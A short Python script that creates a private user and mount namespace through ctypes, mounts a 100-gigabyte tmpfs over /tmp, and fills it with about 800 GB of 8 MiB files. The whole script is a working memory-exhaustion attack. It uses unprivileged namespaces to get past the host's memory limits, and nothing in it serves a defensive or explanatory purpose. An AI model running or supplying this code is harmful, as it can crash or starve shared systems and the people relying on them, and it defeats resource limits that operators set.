"""Makes a user namespace of its own to mount memory without a limit."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x20000) == 0:
    libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=100g")
    for number in range(10**5):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(b"x" * (8 << 20))
